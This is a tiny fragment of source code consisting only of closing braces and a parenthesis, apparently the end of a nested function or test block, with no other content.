		})
	}
}
